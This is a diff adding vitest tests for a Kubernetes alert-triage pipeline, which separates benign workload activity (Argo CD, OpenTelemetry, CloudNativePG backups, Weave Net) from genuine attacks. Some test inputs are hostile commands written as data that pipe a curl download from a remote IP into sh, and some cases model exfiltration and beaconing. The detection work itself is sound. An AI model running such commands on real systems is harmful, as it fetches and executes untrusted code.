@@ -6,7 +6,12 @@ import { describe, expect, it } from 'vitest';
 import { triageAlert } from '../../../src/triage/pipeline.js';
 import { databaseHookOf } from '../../../src/triage/rules/database-hooks.js';
 import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';
-import { alert, containerIdOf, indexOf, node, pod } from '../../support/cluster.js';
+import { buildIndex } from '../../../src/cluster/index.js';
+import { mayMatter } from '../../../src/cluster/audit-prefilter.js';
+import { toActivity } from '../../../src/cluster/audit.js';
+import { expandRecord } from '../../../src/cluster/audit-event.js';
+import type { AuditActivity } from '../../../src/cluster/model.js';
+import { alert, containerIdOf, indexOf, node, pod, snapshot } from '../../support/cluster.js';
 
 const N = 'i-0b77e3f190c2a4d62';
 const cnpg = pod('ledger-db-1', {
@@ -136,5 +141,203 @@ describe('workload-baseline: an exec probe script started by path runs under its
   });
   it('trap: extra words after the probe are not the probe', () => {
     expect(run('/bin/bash /opt/kafka/kafka_readiness.sh; curl -s http://203.0.113.9/x | sh').verdict.label).toBe('genuine');
+  });
+});
+
+describe("gitops-render: a repository server's git/helm/kustomize chain and Argo CD's git askpass", () => {
+  const W = 'i-0a41c9e2d7b3f5801';
+  const repo = pod('argocd-repo-server-5d8f-abcde', {
+    namespace: 'argocd',
+    node: W,
+    ip: '100.108.0.40',
+    owner: { kind: 'ReplicaSet', name: 'argocd-repo-server-5d8f' },
+    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server', '--port=8081'] }],
+  });
+  const app = pod('ledger-api-1', { namespace: 'ledger', node: W, ip: '100.108.0.90', containers: [{ name: 'api', image: 'registry.example/ledger-api:3.8.0', command: ['java', '-jar', '/app/api.jar'] }] });
+  const idx = indexOf([node(W, '172.20.45.17'), repo, app]);
+  const GIT = { name: 'git', path: '/usr/bin/git', commandLine: 'git fetch origin --tags --force --prune' };
+  const ASKPASS = { name: 'argocd', path: '/usr/local/bin/argocd', commandLine: "argocd Username for 'https://git.example.org': " };
+  const DAEMON = { name: 'argocd-repo-server', commandLine: '/usr/local/bin/argocd-repo-server --port=8081' };
+  const at = (p: typeof repo) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
+  it("explains git asking Argo CD's own binary for credentials in the repo server", () => {
+    const r = triageAlert(alert({ host: W, title: 'Credential Prompt Spoofing via Askpass Helper', process: ASKPASS, ancestors: [GIT], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+    expect(r.verdict.reasons[0].message).toMatch(/GIT_ASKPASS/);
+  });
+  it('explains it from a node sensor without container ids, by the repo server running on that node', () => {
+    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'git-remote-https', commandLine: 'git-remote-https origin https://git.example.org/p.git' }, GIT] }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('explains helm under the repo server daemon', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'helm', path: '/usr/local/bin/helm', commandLine: 'helm template . --name-template ledger' }, ancestors: [DAEMON], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: the askpass words from a shell, not git, are not the helper', () => {
+    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'bash', commandLine: 'bash' }], container: at(repo) }), { index: idx });
+    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
+  });
+  it('trap: git in an application pod is not the repo server', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'git', commandLine: 'git clone https://git.example.org/x.git' }, ancestors: [{ name: 'java', commandLine: 'java -jar /app/api.jar' }], container: at(app) }), { index: idx });
+    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
+  });
+  it('trap: a download piped into a shell in the repo server stays an attack', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'sh', commandLine: 'sh -c curl -s http://203.0.113.50/k.sh | sh' }, ancestors: [GIT], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('workload-baseline: the OpenTelemetry collector scrapes its kubelet and exports over OTLP', () => {
+  const W = 'i-0b77e3f190c2a4d62';
+  const mk = (name: string, image: string, ip: string) =>
+    pod(name, { namespace: 'opentelemetry', node: W, ip, owner: { kind: 'DaemonSet', name: 'otel-agent' }, containers: [{ name: 'otel-collector', image, command: ['/otelcol-contrib', '--config=/conf/config.yaml'] }] });
+  const agent = mk('otel-agent-abcde', 'otel/opentelemetry-collector-contrib:0.102.1', '100.112.0.12');
+  const fake = mk('otel-agent-fghij', 'ghcr.io/otel-collector-contrib/opentelemetry-collector-contrib:0.102.1', '100.112.0.13');
+  const idx = indexOf([node(W, '172.20.71.203'), agent, fake]);
+  const flow = (src: string, dstIp: string, dstPort: number, title: string, domain?: string) => {
+    const a = alert({ title, network: { srcIp: src, dstIp, dstPort, domain } });
+    a.source.vendor = 'darktrace';
+    return triageAlert(a, { index: idx });
+  };
+  it("explains the collector's TLS connection to its own node's kubelet", () => {
+    expect(flow('100.112.0.12', '172.20.71.203', 10250, 'SSL::Invalid_Server_Cert').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('explains its regular OTLP export to a backend outside the cluster as its work', () => {
+    expect(flow('100.112.0.12', '198.51.100.140', 4317, 'Compromise::Beaconing Activity To External Rare', 'otlp.observability.example.org').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: a look-alike image under another organisation is not the collector', () => {
+    expect(flow('100.112.0.13', '198.51.100.140', 4317, 'Compromise::Beaconing Activity To External Rare').verdict.label).toBe('genuine');
+    expect(flow('100.112.0.13', '172.20.71.203', 10250, 'SSL::Invalid_Server_Cert').verdict.label).toBe('genuine');
+  });
+  it('trap: the collector beaconing on another port is not its export', () => {
+    expect(flow('100.112.0.12', '203.0.113.50', 4444, 'Anomalous Connection::Multiple Connections to New External TCP Port').verdict.label).toBe('genuine');
+  });
+});
+
+describe('threat intel: a feed listing a whole public source host, matched by a GitOps repository server', () => {
+  const W = 'i-0a41c9e2d7b3f5801';
+  const repo = pod('argocd-repo-server-5d8f-abcde', {
+    namespace: 'argocd',
+    node: W,
+    ip: '100.108.0.40',
+    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server'] }],
+  });
+  const web = pod('portal-1', { namespace: 'web', node: W, ip: '100.108.0.95', containers: [{ name: 'portal', image: 'registry.example/portal:5', command: ['node', 'server.js'] }] });
+  const idx = indexOf([node(W, '172.20.45.17'), repo, web]);
+  const hit = (src: string, network: { domain?: string; url?: string }) => {
+    const a = alert({ title: 'Intel::Notice', network: { srcIp: src, dstIp: '100.64.0.10', dstPort: 53, ...network } });
+    a.source.vendor = 'zeek';
+    return triageAlert(a, { index: idx });
+  };
+  it('explains the repo server resolving raw.githubusercontent.com', () => {
+    expect(hit('100.108.0.40', { domain: 'raw.githubusercontent.com' }).verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: a listed URL on that host names a file, and stays genuine', () => {
+    expect(hit('100.108.0.40', { domain: 'raw.githubusercontent.com', url: 'https://raw.githubusercontent.com/x/y/main/payload.sh' }).verdict.label).toBe('genuine');
+  });
+  it('trap: an application pod resolving a listed domain stays genuine', () => {
+    expect(hit('100.108.0.95', { domain: 'raw.githubusercontent.com' }).verdict.label).toBe('genuine');
+  });
+  it('trap: the repo server resolving some other listed domain stays genuine', () => {
+    expect(hit('100.108.0.40', { domain: 'telemetry.npm-stats.example' }).verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('database-backup-upload: a database pod uploading to object storage after its operator created a backup', () => {
+  const W = 'i-0b77e3f190c2a4d62';
+  const db = pod('ledger-db-1', {
+    namespace: 'ledger',
+    node: W,
+    ip: '100.112.0.80',
+    owner: { kind: 'Cluster', name: 'ledger-db' },
+    labels: { 'cnpg.io/cluster': 'ledger-db', 'cnpg.io/instanceRole': 'primary' },
+    containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run'] }],
+  });
+  const app = pod('ledger-api-1', { namespace: 'ledger', node: W, ip: '100.112.0.90', containers: [{ name: 'api', image: 'registry.example/ledger-api:3.8.0', command: ['java', '-jar', '/app/api.jar'] }] });
+  const backup: AuditActivity = {
+    time: '2027-03-16T11:30:00.012Z',
+    user: 'system:serviceaccount:cnpg-system:cnpg-manager',
+    groups: ['system:serviceaccounts'],
+    verb: 'create',
+    resource: 'backups',
+    apiGroup: 'postgresql.cnpg.io',
+    namespace: 'ledger',
+    name: 'ledger-db-daily-20270316113000',
+    sourceIps: ['100.120.0.70'],
+    code: 201,
+  };
+  const idxWith = (activities: AuditActivity[]) => {
+    const s = snapshot([node(W, '172.20.71.203'), db, app]);
+    s.auditActivities = activities;
+    return buildIndex([s]);
+  };
+  const upload = (src: string, domain: string, index = idxWith([backup]), time = '2027-03-16T11:34:00.000Z') => {
+    const a = alert({ time, title: 'Anomalous Connection::Uncommon 1 GiB Outbound', network: { srcIp: src, dstIp: '52.219.170.10', domain } });
+    a.source.vendor = 'darktrace';
+    return triageAlert(a, { index });
+  };
+  it('explains the upload from the instance pod to S3 minutes after the Backup was created', () => {
+    const r = upload('100.112.0.80', 's3.eu-central-1.amazonaws.com');
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+    expect(r.verdict.reasons[0].message).toMatch(/ledger-db-daily-20270316113000/);
+  });
+  it('trap: without a backup object in the audit log the upload stays unexplained', () => {
+    expect(upload('100.112.0.80', 's3.eu-central-1.amazonaws.com', idxWith([])).verdict.label).toBe('genuine');
+  });
+  it('trap: a backup created long before (outside the upload window) does not explain it', () => {
+    expect(upload('100.112.0.80', 's3.eu-central-1.amazonaws.com', idxWith([backup]), '2027-03-16T19:00:00.000Z').verdict.label).toBe('genuine');
+  });
+  it('trap: an application pod of that namespace uploading is not the database', () => {
+    expect(upload('100.112.0.90', 's3.eu-central-1.amazonaws.com').verdict.label).toBe('genuine');
+  });
+  it('trap: an upload to a host that is not object storage is not the backup', () => {
+    expect(upload('100.112.0.80', 'files.example-exfil.net').verdict.label).toBe('genuine');
+  });
+  it("the audit log keeps the operator's backup creation (prefilter and activity)", () => {
+    const line = JSON.stringify({
+      kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: 'a1', stage: 'ResponseComplete', requestURI: '/apis/postgresql.cnpg.io/v1/namespaces/ledger/backups', verb: 'create',
+      user: { username: 'system:serviceaccount:cnpg-system:cnpg-manager', groups: ['system:serviceaccounts'] }, sourceIPs: ['100.120.0.70'],
+      objectRef: { resource: 'backups', namespace: 'ledger', name: 'ledger-db-daily-20270316113000', apiGroup: 'postgresql.cnpg.io', apiVersion: 'v1' },
+      responseStatus: { code: 201 }, requestReceivedTimestamp: '2027-03-16T11:30:00.012203Z', stageTimestamp: '2027-03-16T11:30:00.040917Z',
+    });
+    expect(mayMatter(line)).toBe(true);
+    const out = { events: [], unrecognised: 0 };
+    expandRecord(JSON.parse(line), out);
+    const [ev] = out.events;
+    expect(toActivity(ev, { file: 'audit.log', line: 1 })).toMatchObject({ verb: 'create', resource: 'backups', apiGroup: 'postgresql.cnpg.io', namespace: 'ledger' });
+  });
+});
+
+describe("node networking: Weave Net's launch.sh running its weave setup script", () => {
+  const W = 'i-05e9b1d7a3c8f2246';
+  const weave = pod('weave-net-7s9pl', {
+    namespace: 'kube-system',
+    node: W,
+    hostNetwork: true,
+    owner: { kind: 'DaemonSet', name: 'weave-net' },
+    containers: [
+      { name: 'weave', image: 'weaveworks/weave-kube:2.8.1', command: ['/home/weave/launch.sh'], securityContext: { privileged: true } },
+      { name: 'weave-npc', image: 'weaveworks/weave-npc:2.8.1', securityContext: { privileged: true } },
+    ],
+  });
+  const app = pod('portal-1', { namespace: 'web', node: W, ip: '100.120.0.95', containers: [{ name: 'portal', image: 'registry.example/portal:5', command: ['node', 'server.js'] }] });
+  const idx = indexOf([node(W, '172.20.52.131'), weave, app]);
+  const WEAVE = { name: 'weave', path: '/home/weave/weave', commandLine: '/home/weave/weave --local create-bridge --proc-path=/host/proc --force' };
+  const at = (p: typeof weave) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
+  it('is node networking in the weave container of the weave-net DaemonSet', () => {
+    const r = triageAlert(alert({ host: W, process: WEAVE, ancestors: [{ name: 'sh', path: '/bin/busybox', commandLine: '/bin/sh /home/weave/launch.sh' }], container: at(weave) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
+  });
+  it('trap: a `weave` binary in an application pod is not Weave Net', () => {
+    const r = triageAlert(alert({ host: W, process: WEAVE, ancestors: [{ name: 'node', commandLine: 'node server.js' }], container: at(app) }), { index: idx });
+    expect(r.verdict.cause).not.toBe('node-networking');
+  });
+});
+
+describe('attack indicators: a network sensor naming SQL injection', () => {
+  it.each(['HTTP::SQL_Injection_Attacker', 'HTTP::SQL_Injection_Victim', 'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT'])('%s is an injection attack', (title) => {
+    expect(indicatorsIn('title', title).map((i) => i.id)).toContain('injection-signature');
+  });
+  it('trap: a command line running a SQL-injection test suite is not one', () => {
+    expect(indicatorsIn('command', 'pytest tests/test_sql_injection.py').map((i) => i.id)).not.toContain('injection-signature');
   });
 });
